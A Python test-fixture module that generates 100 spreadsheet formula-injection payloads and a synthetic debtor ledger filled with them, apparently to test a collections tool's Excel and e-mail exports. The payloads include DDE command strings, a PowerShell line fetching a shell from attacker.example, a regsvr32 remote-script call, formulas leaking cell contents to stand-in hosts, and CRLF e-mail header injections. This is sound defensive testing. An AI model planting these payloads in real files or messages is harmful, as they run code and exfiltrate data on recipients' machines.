"""Hostile text for the formula-injection tests: 100 payloads that a spreadsheet could take for a
formula, a link, a number or an error, and a small ledger whose every free-text field carries them.

Everything is deterministic (no randomness): the same 100 strings, the same frames, each run.
The frames are canonical (as the readers return them), so the test needs no Excel input.
:func:`load_shown` reopens a written workbook with the text Excel shows in each cell.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from xml.etree.ElementTree import iterparse

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell.text import Text
from openpyxl.reader.excel import ExcelReader
from openpyxl.xml.constants import SHARED_STRINGS, SHEET_MAIN_NS

from relance_analytics import frames

from .calllist import helpers

N_PAYLOADS = 100

#: Display names that would add an e-mail header if a draft copied them raw (CR/LF, RFC 2047).
HEADER_INJECTIONS = ("Dupont\r\nBcc: x@evil.example", "=1+1\nCc: y@evil.example\n\nTexte injecté",
                     "=?utf-8?q?Dupont=0D=0ABcc:_x@evil.example?=")

#: Hand-written payloads: formula starters, DDE, links, CSV-injection classics, look-alikes,
#: strings Excel would turn into numbers, booleans or errors, control characters, OOXML escapes.
BASE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "=1+1\r\n",
    '=HYPERLINK("http://x","y")', "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Cliquez ici\")",
    '=HYPERLINK("tel:+33100000000","appeler")', '=HYPERLINK("mailto:x@evil.example","écrire")',
    "=cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", HEADER_INJECTIONS[0], "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', "=DDEAUTO(\"cmd\",\"/c calc\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll'!''",
    "=WEBSERVICE(\"http://x.example/\"&A1)", '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
    "=INDIRECT(\"Listes!A1\")", HEADER_INJECTIONS[1], "=Synthèse!A1", "='Par client'!B4", "=A1", "=#REF!", "=1/0",
    "={1,2,3}",
    "=+1", "==1", "=-1", "=@A1", "@A1", "+A1", "-A1", "=SUM(A1:A9)", "=NOW()", "=RAND()", '="A"&"B"',
    "=CHAR(61)&\"1+1\"", "=CONCATENATE(\"=\",\"1+1\")", "=1+1;", "=1+1 ", "'=1+1", "{=1+1}",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "  =1+1", " \t=1+1", "\u00a0=1+1", "\u3000=1+1",
    "\u200b=1+1", "\ufeff=1+1", "\u2028=1+1", "\x0b=1+1", "\x00=1+1", "\x1b[31m=1+1", "\x7f=1+1",
    "_x003D_1+1", "_x000D_=1+1", "%0A=1+1", "&#61;1+1", "=1+1<!--", "<f>1+1</f>",
    "TRUE", "FAUX", "#N/A", "#DIV/0!", "1E5", "00123", "1/2", "12/11/2026", "1,5", "50 %", "-0",
    "http://evil.example/x", "https://x.example/?a=1&b=2", "mailto:a@evil.example", "tel:+33100000000",
    HEADER_INJECTIONS[2], "javascript:alert(1)", "x@evil.example\r\nBcc: y@evil.example",
    "file:///C:/Windows/System32/calc.exe", "\\\\evil.example\\share\\x.xlsx", "external:x",
    "=" + "1+" * 60 + "1",
)
_PREFIXES = ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d")
_BODIES = ("SUM(A1:A{n})", 'HYPERLINK("http://x.example/{n}","y")', "cmd|' /C calc'!A{n}", "{n}+{n}")


def _generate() -> tuple[str, ...]:
    """:data:`BASE` completed to :data:`N_PAYLOADS` distinct strings with prefix × body variants."""
    out = list(dict.fromkeys(BASE))
    n = 2
    while len(out) < N_PAYLOADS:
        for body in _BODIES:
            for prefix in _PREFIXES:
                text = prefix + body.format(n=n)
                if len(out) < N_PAYLOADS and text not in out:
                    out.append(text)
        n += 1
    return tuple(out)


PAYLOADS: tuple[str, ...] = _generate()
assert len(PAYLOADS) == N_PAYLOADS == len(set(PAYLOADS))

_OOXML_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")


def excel_text(raw: str) -> str:
    """A shared string as Excel shows it: ``_xHHHH_`` escapes decoded left to right, so
    ``_x000D_`` is a carriage return and ``_x005F_x000D_`` the literal text ``_x000D_``."""
    return _OOXML_ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), raw)


class _ShownReader(ExcelReader):
    """openpyxl's reader with the shared strings decoded as Excel decodes them. (openpyxl itself
    keeps ``_xHHHH_`` escapes and drops every ``x005F_``, which makes the text ``_x000D_`` and
    a carriage return read back the same.)"""

    def read_strings(self) -> None:
        self.shared_strings = []
        part = self.package.find(SHARED_STRINGS)
        if part is None:
            return
        with self.archive.open(part.PartName[1:]) as src:
            for _, node in iterparse(src):
                if node.tag == f"{{{SHEET_MAIN_NS}}}si":
                    self.shared_strings.append(excel_text(Text.from_tree(node).content))
                    node.clear()


def load_shown(path: str | Path) -> Workbook:
    """The workbook at ``path`` as openpyxl reads it, every string cell holding the text Excel shows."""
    reader = _ShownReader(str(path))
    reader.read()
    return reader.wb


def p(i: int) -> str:
    """Payload ``i`` (modulo 100)."""
    return PAYLOADS[i % N_PAYLOADS]


# --- a hostile ledger -----------------------------------------------------------------------

AS_OF = pd.Timestamp("2026-11-20")          # a Friday
PREVIOUS = pd.Timestamp("2026-11-13")
#: "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)", "\r=1+1", a name with line breaks and an escape character:
#: sheet names, e-mail folders and ``From:`` names are made of them.
COLLECTORS = (p(0), p(13), p(3), p(5), HEADER_INJECTIONS[1], "\x1b[31m=1+1")
assert set(COLLECTORS) <= set(PAYLOADS)
SEGMENTS = (p(1), p(9), p(71))
#: Role of a customer in the call list, by ``i % 5``.
GROUPS = ("calls", "disputes", "formal_notice", "litigation", "claims")


def cid(i: int) -> str:
    return f"C{i:03d}"


def group(i: int) -> str:
    return GROUPS[i % len(GROUPS)]


def is_purchasing(i: int) -> bool:
    """Every third customer validates invoices through purchasing: its first contact is the buyer
    (named ``p(i + 55)``, with a clean phone and e-mail, written as links and used as the drafts'
    ``To:``) and the hostile contact is the second one."""
    return i % 3 == 0


def buyer_phone(i: int) -> str:
    return f"01 23 45 {i // 10:02d} {i % 100:02d}"


def buyer_email(i: int) -> str:
    return f"achats{i}@client.example"


def second_doc(i: int) -> str:
    return f"F{i:03d}-2"


def is_small(i: int) -> bool:
    """A ``calls`` customer owing a small amount only (no call: the e-mail reminder list)."""
    return group(i) == "calls" and i % 10 == 5


def documents(i: int) -> set[str]:
    """Document ids customer ``i`` owes at :data:`AS_OF`."""
    return {p(i), second_doc(i)} if group(i) in ("calls", "disputes") and not is_small(i) else {p(i)}


def call_contact(i: int) -> tuple[str, str, str]:
    """(name, phone, e-mail) of the contact to call (R11): the buyer on the purchasing circuit."""
    return (p(i + 55), buyer_phone(i), buyer_email(i)) if is_purchasing(i) else (p(i + 7), p(i + 1), p(i + 2))


@dataclass(frozen=True)
class Ledger:
    """Canonical frames of the hostile ledger (see :func:`ledger`)."""

    previous: pd.DataFrame          # open items at PREVIOUS
    items: pd.DataFrame             # open items at AS_OF
    customers: pd.DataFrame
    contacts: pd.DataFrame
    disputes: pd.DataFrame
    actions: pd.DataFrame
    sales: pd.DataFrame


def _items(rows: list[tuple[str, str, str, str, str, int]]) -> pd.DataFrame:
    """Canonical open items from ``(customer_id, name, document_id, document_date, due_date, cents)``."""
    names = ("customer_id", "customer_name", "document_id", "document_date", "due_date", "amount_cents")
    data = {n: [r[k] for r in rows] for k, n in enumerate(names)}
    data["document_type"] = ["invoice" if a > 0 else "credit_note" for a in data["amount_cents"]]
    data["source_row"] = np.arange(2, len(rows) + 2, dtype="int32")
    return frames.OPEN_ITEMS.validate(frames.OPEN_ITEMS.build(data))


def ledger() -> Ledger:
    """100 customers ``C000``…``C099``; customer ``i`` is named ``p(i)`` and owes document ``p(i)``
    (due 01/06/2026: provisioned, on every list), and routed by ``i % 5`` (:data:`GROUPS`):

    * ``calls``: a second invoice and a callback agreed for 18/11 (R4) whose contact and note
      are payloads; ``i % 10 == 5`` owe a small amount instead (e-mail reminder list);
    * ``disputes``: document ``p(i)`` disputed (owner, phone, e-mail, reason: payloads) and a
      second invoice on the phone list (R3);
    * ``formal_notice``: three unsuccessful reminders a month apart (R7);
    * ``litigation``: a formal notice sent on 01/10 whose delay ran out (R8);
    * ``claims``: in receivership (R9), with a dispute on ``p(i)`` resolved in August.
    """
    rows, previous_rows, customers, contacts, disputes, actions, sales = [], [], [], [], [], [], []
    for i in range(100):
        c, name, kind = cid(i), p(i), group(i)
        small = is_small(i)
        main = (c, name, p(i), "2026-05-01", "2026-06-01", 4_000 if small else 250_000 + 100 * i)
        rows.append(main)
        if kind in ("calls", "disputes") and not small:
            rows.append((c, name, second_doc(i), "2026-09-15", "2026-10-15", 120_000))
        previous_rows.append(main)
        if i % 4 == 0:      # paid during the week: a flow in the drift
            previous_rows.append((c, name, f"F{i:03d}-0", "2026-08-01", "2026-09-01", 50_000))
        customers.append({
            "customer_id": c, "customer_name": name, "segment": SEGMENTS[i % len(SEGMENTS)],
            "collector": COLLECTORS[i % len(COLLECTORS)],
            "status": "receivership" if kind == "claims" else "active",
            "invoice_circuit": "purchasing" if is_purchasing(i) else "accounting",
        })
        contacts.append((c, p(i + 7), "accounting", p(i + 1), p(i + 2)))
        if is_purchasing(i):
            contacts.append((c, p(i + 55), "purchasing", buyer_phone(i), buyer_email(i)))
        for m in range(1, 13):
            sales.append((c, f"2026-{m:02d}-01", 300_000 + 1_000 * i))
        if kind == "calls" and not small:
            actions.append({"date": "2026-11-05", "customer_id": c, "channel": "phone", "contact": p(i + 11),
                            "outcome": "callback", "callback_date": "2026-11-18", "note": p(i + 17),
                            "collector": COLLECTORS[i % len(COLLECTORS)]})
        elif kind == "disputes":
            disputes.append({"dispute_id": f"L{i:03d}", "customer_id": c, "document_id": p(i), "amount": 1_000,
                             "opened": "2026-09-01", "owner": p(i + 3), "owner_phone": p(i + 4),
                             "owner_email": p(i + 5), "reason": p(i + 6)})
        elif kind == "formal_notice":
            for k, when in enumerate(("2026-08-03", "2026-09-03", "2026-10-05")):
                actions.append({"date": when, "customer_id": c, "channel": "phone", "contact": p(i + 11 + k),
                                "outcome": "no_answer", "note": p(i + 17 + k)})
        elif kind == "litigation":
            actions.append({"date": "2026-10-01", "customer_id": c, "channel": "formal_notice",
                            "contact": p(i + 11), "outcome": "formal_notice_sent", "note": p(i + 17)})
        elif kind == "claims":
            disputes.append({"dispute_id": f"R{i:03d}", "customer_id": c, "document_id": p(i), "amount": 500,
                             "opened": "2026-07-01", "resolved": "2026-08-14", "owner": p(i + 3),
                             "owner_phone": p(i + 4), "owner_email": p(i + 5), "reason": p(i + 6)})

    customers_frame = frames.CUSTOMERS.build({k: [c[k] for c in customers] for k in customers[0]}
                                             | {"provision_rate": [np.nan] * len(customers)})
    sales_frame = frames.SALES.build({"customer_id": [s[0] for s in sales], "month": [s[1] for s in sales],
                                      "sales_ht_cents": [s[2] for s in sales], "vat_rate": [0.2] * len(sales)})
    return Ledger(previous=_items(previous_rows), items=_items(rows),
                  customers=frames.CUSTOMERS.validate(customers_frame), contacts=helpers.contacts(*contacts),
                  disputes=helpers.disputes(*disputes), actions=helpers.actions(*actions),
                  sales=frames.SALES.validate(sales_frame))
